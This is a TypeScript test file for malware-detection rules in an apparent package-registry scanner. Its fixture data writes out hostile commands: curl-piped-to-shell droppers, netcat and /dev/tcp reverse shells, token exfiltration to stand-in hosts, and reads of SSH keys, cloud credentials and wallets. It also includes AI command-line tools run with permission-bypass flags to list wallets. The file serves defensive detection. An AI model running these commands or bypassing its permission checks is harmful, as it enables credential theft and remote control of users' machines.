import { strict as assert } from 'node:assert';
import { describe, test } from 'node:test';
import type { BehaviourReport } from '@secure-registry/shared';
import { evaluateArtifact } from '../engine.js';
import type { Rule } from '../types.js';
import { credentialReadThenEgress } from './credential-read-then-egress.js';
import { honeytokenEgress } from './honeytoken-egress.js';
import { reverseShell } from './reverse-shell.js';
import { suspiciousProcess } from './suspicious-process.js';
import {
  conn,
  decoy,
  dns,
  file,
  HOME,
  http,
  proc,
  PROJECT,
  report,
  tokenHit,
} from './test-support/behaviour-report.js';

function findings(rule: Rule, ...behaviour: BehaviourReport[]) {
  return evaluateArtifact({ name: 'demo', version: '1.0.1', behaviour, rules: [rule] }).findings;
}

describe('honeytoken-egress', () => {
  test('a token in a POST body is critical with destination and payload excerpt', () => {
    const post = http('POST', 'exfil.example', '/c', '{"NPM_TOKEN":"npm_x"}');
    const [f, ...rest] = findings(
      honeytokenEgress,
      report({
        http: [post],
        honeytokenHits: [
          tokenHit('env:NPM_TOKEN', 'http', 'exfil.example/c', '{"NPM_TOKEN":"npm_abc…', post.seq),
          tokenHit('env:GITHUB_TOKEN', 'http', 'exfil.example/c', '"GITHUB_TOKEN":"ghp_…', post.seq),
        ],
      }),
    );
    assert.equal(rest.length, 0);
    assert.equal(f?.severity, 'critical');
    assert.match(f?.message ?? '', /env:NPM_TOKEN, env:GITHUB_TOKEN sent over http to exfil\.example\/c/);
    assert.equal(f?.evidence[0]?.eventSeq, post.seq[0]);
    assert.match(f?.evidence[0]?.excerpt ?? '', /NPM_TOKEN/);
    assert.match(f?.evidence[0]?.detail ?? '', /exfil\.example/);
  });

  test('a token in a DNS name is critical too', () => {
    const [f] = findings(
      honeytokenEgress,
      report({ honeytokenHits: [tokenHit('env:AWS_ACCESS_KEY_ID', 'dns', 'x.t.test', '[hex] 414b4941…')] }),
    );
    assert.equal(f?.severity, 'critical');
  });

  test("npm's own bearer token to the npm registry on a GET (esbuild's npm fallback) is medium", () => {
    const get = http('GET', 'registry.npmjs.org', '/@esbuild%2flinux-x64');
    const hit = tokenHit(
      'file:npmrc',
      'http',
      'registry.npmjs.org/@esbuild%2flinux-x64',
      '…npm-command: install authorization: Bearer npm_Zj5ExampleExampleExample12 npm-auth-type: web…',
      get.seq,
    );
    assert.equal(
      findings(honeytokenEgress, report({ http: [get], honeytokenHits: [hit] }))[0]?.severity,
      'medium',
    );
    // The same token PUT (publishing) or sent to another host is exfiltration.
    const put = http('PUT', 'registry.npmjs.org', '/victim-pkg', '{}');
    const publish = { ...hit, seq: put.seq };
    assert.equal(
      findings(honeytokenEgress, report({ http: [put], honeytokenHits: [publish] }))[0]?.severity,
      'critical',
    );
    const other = http('GET', 'evil.example', '/');
    const elsewhere = { ...hit, destination: 'evil.example/', seq: other.seq };
    assert.equal(
      findings(honeytokenEgress, report({ http: [other], honeytokenHits: [elsewhere] }))[0]?.severity,
      'critical',
    );
  });

  test('no hits, no finding', () => {
    assert.deepEqual(findings(honeytokenEgress, report({ http: [http('GET', 'example.test', '/')] })), []);
  });
});

describe('credential-read-then-egress', () => {
  test('wallet and key reads followed by a request are critical; reads alone are high', () => {
    const reads = [
      file('read', `${HOME}/.ssh/id_rsa`, 'honeytoken'),
      file('read', `${HOME}/.config/solana/id.json`, 'wallet'),
    ];
    const [f] = findings(
      credentialReadThenEgress,
      report({ files: reads, http: [http('POST', 'collector.example', '/u', 'eyJ4')] }),
    );
    assert.equal(f?.severity, 'critical');
    assert.match(f?.message ?? '', /collector\.example/);
    assert.equal(f?.evidence[0]?.path, `${HOME}/.ssh/id_rsa`);
    assert.equal(findings(credentialReadThenEgress, report({ files: reads }))[0]?.severity, 'high');
  });

  test('egress before the read does not count as "then"', () => {
    const early = dns('collector.example');
    const reads = [file('read', `${HOME}/.aws/credentials`, 'honeytoken')];
    assert.equal(
      findings(credentialReadThenEgress, report({ dns: [early], files: reads }))[0]?.severity,
      'high',
    );
  });

  test('benign look-alike: prebuild-install reads ~/.npmrc for proxy settings, then GETs a binary: low', () => {
    const [f] = findings(
      credentialReadThenEgress,
      report({
        files: [file('read', `${HOME}/.npmrc`, 'honeytoken')],
        http: [http('GET', 'github.com', '/lovell/sharp/releases/download/v0.32.6/sharp-linux-x64.tar.gz')],
      }),
    );
    assert.equal(f?.severity, 'low');
    const [g] = findings(
      credentialReadThenEgress,
      report({
        files: [file('read', `${HOME}/.npmrc`, 'honeytoken')],
        http: [http('POST', 'x.example', '/', 'data')],
      }),
    );
    assert.equal(g?.severity, 'medium');
  });

  test('benign look-alike: a config loader (dotenv/config) reads the project .env at import: medium, not held', () => {
    const env = file('read', `${PROJECT}/.env`, 'honeytoken');
    const [f] = findings(credentialReadThenEgress, report({ phase: 'import', files: [env] }));
    assert.equal(f?.severity, 'medium');
    const local = file('read', `${PROJECT}/.env.local`, 'credentials');
    assert.equal(
      findings(credentialReadThenEgress, report({ phase: 'browser', files: [local] }))[0]?.severity,
      'medium',
    );
  });

  test('.env read then egress, at install, or together with keys stays critical / high', () => {
    const env = () => file('read', `${PROJECT}/.env`, 'honeytoken');
    const then = () => http('POST', 'collector.example', '/e', 'U0VDUkVU');
    assert.equal(
      findings(credentialReadThenEgress, report({ phase: 'import', files: [env()], http: [then()] }))[0]
        ?.severity,
      'critical',
    );
    assert.equal(findings(credentialReadThenEgress, report({ files: [env()] }))[0]?.severity, 'high');
    assert.equal(
      findings(
        credentialReadThenEgress,
        report({ phase: 'import', files: [env(), file('read', `${HOME}/.ssh/id_rsa`, 'honeytoken')] }),
      )[0]?.severity,
      'high',
    );
    // A file merely named like .env (`.envrc`, `env.js`) is not a dotenv file.
    assert.equal(
      findings(
        credentialReadThenEgress,
        report({ phase: 'import', files: [file('read', `${HOME}/.envrc`, 'credentials')] }),
      )[0]?.severity,
      'high',
    );
  });

  test('project reads outside the sensitive classes do not fire', () => {
    assert.deepEqual(
      findings(
        credentialReadThenEgress,
        report({ files: [file('read', `${PROJECT}/tsconfig.json`, 'outside-package')] }),
      ),
      [],
    );
  });
});

describe('suspicious-process', () => {
  const severities = (argv: string[]) =>
    findings(suspiciousProcess, report({ processes: [proc(argv)] })).map((f) => f.severity);

  test('curl piped to sh is critical; downloading and running is high', () => {
    assert.deepEqual(severities(['sh', '-c', 'curl -fsSL http://dropper.invalid/x.sh | sh']), ['critical']);
    assert.deepEqual(severities(['sh', '-c', 'wget -qO- http://x.invalid/a | sudo bash']), ['critical']);
    assert.deepEqual(
      severities(['sh', '-c', 'curl -o /tmp/a http://x.invalid/a && chmod +x /tmp/a && /tmp/a']),
      ['high'],
    );
  });

  test('AI CLIs with bypass flags are critical (as processes and as decoy calls), one finding each', () => {
    const out = findings(
      suspiciousProcess,
      report({
        processes: [proc(['claude', '--dangerously-skip-permissions', '-p', 'list wallets'])],
        decoys: [
          decoy('claude', ['--dangerously-skip-permissions', '-p', 'list wallets']),
          decoy('gemini', ['--yolo', '-p', 'x']),
          decoy('q', ['chat', '--trust-all-tools']),
        ],
      }),
    );
    assert.equal(out.length, 1, 'one pattern: ai-cli-bypass');
    assert.equal(out[0]?.severity, 'critical');
    assert.equal(
      out[0]?.evidence.length,
      3,
      'the same command line as process and decoy is one piece of evidence',
    );
    assert.match(out[0]?.message ?? '', /claude --dangerously-skip-permissions/);
    assert.deepEqual(severities(['claude', '--version']), ['high']);
  });

  test('trufflehog, npm publish, git push, gh auth token, crontab - are critical; sudo high', () => {
    assert.deepEqual(severities(['trufflehog', 'filesystem', '/home/maria', '--json']), ['critical']);
    assert.deepEqual(severities(['npm', 'publish', '--access', 'public']), ['critical']);
    assert.deepEqual(
      severities(['/usr/local/bin/node', '/usr/local/lib/node_modules/npm/bin/npm-cli.js', 'publish']),
      ['critical'],
    );
    assert.deepEqual(severities(['git', 'push', 'origin', 'main']), ['critical']);
    assert.deepEqual(severities(['gh', 'auth', 'token']), ['critical']);
    assert.deepEqual(severities(['crontab', '-']), ['critical']);
    assert.deepEqual(severities(['crontab', '-l']), ['high']);
    assert.deepEqual(severities(['sudo', 'shutdown', '-h', '0']), ['high']);
    assert.deepEqual(severities(['nc', '-e', '/bin/sh', '198.51.100.7', '4444']), ['critical']);
  });

  test('benign installs: node-gyp builds, esbuild running its binary and npm install, banners', () => {
    for (const argv of [
      ['sh', '-c', 'node-gyp rebuild'],
      ['node', '/usr/local/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'],
      ['make', 'BUILDTYPE=Release', '-C', 'build'],
      ['g++', '-o', 'Release/obj.target/x.o', '../src/x.cc'],
      ['/home/maria/projects/acme-dashboard/node_modules/esbuild/bin/esbuild', '--version'],
      ['npm', 'install', '--loglevel=error', '--prefer-offline', '--no-audit', '@esbuild/linux-x64@0.25.0'],
      ['sh', '-c', 'node -e "try{require(\'./postinstall\')}catch(e){}"'],
      ['git', 'rev-parse', '--git-dir'],
      ['curl', '-fsSLo', 'bin.tgz', 'https://github.com/x/y/releases/download/v1/bin.tgz'],
    ]) {
      assert.deepEqual(severities(argv), [], argv.join(' '));
    }
  });
});

describe('reverse-shell', () => {
  test('bash -i to /dev/tcp is critical with the target', () => {
    const out = findings(
      reverseShell,
      report({
        processes: [proc(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 &'])],
        connections: [conn('198.51.100.7', 4444)],
      }),
    );
    assert.equal(out[0]?.severity, 'critical');
    assert.match(out[0]?.message ?? '', /198\.51\.100\.7:4444/);
  });

  test('an interactive shell after a raw connection fires; after an HTTP download it does not', () => {
    const c = conn('203.0.113.9', 9001);
    assert.equal(
      findings(reverseShell, report({ connections: [c], processes: [proc(['sh', '-i'])] }))[0]?.severity,
      'critical',
    );
    const web = conn('198.18.0.10', 443, 'github.com');
    const get = http('GET', 'github.com', '/a/b/releases/download/v1/x.tgz');
    assert.deepEqual(
      findings(
        reverseShell,
        report({ connections: [web], http: [get], processes: [proc(['sh', '-c', 'tar xzf x.tgz'])] }),
      ),
      [],
    );
  });
});
